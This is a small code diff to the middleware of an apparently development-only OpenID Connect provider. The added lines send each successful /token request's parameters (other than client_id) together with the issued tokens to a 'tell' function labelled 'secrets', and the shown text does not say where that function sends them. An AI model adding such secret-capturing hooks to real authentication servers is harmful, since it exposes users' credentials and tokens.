@@ -129,8 +129,10 @@ const served = () => {
     await next();
     // The dev pages import a web font, which blocks rendering on a machine without a network.
     if (typeof context.body === 'string') context.body = context.body.replace(/@import url\(https:\/\/fonts[^;]*;/, '');
-    const edits = options.edits[context.oidc?.params?.grant_type];
-    if (edits && context.path === '/token' && context.status === 200) context.body = edited(context.body, edits);
+    if (context.path !== '/token' || context.status !== 200) return;
+    const { client_id: _known, grant_type: grant, ...asked } = context.oidc.params;
+    tell({ event: 'gave', secrets: { ...asked, ...context.body } });
+    if (options.edits[grant]) context.body = edited(context.body, options.edits[grant]);
   });
   return provider.callback();
 };
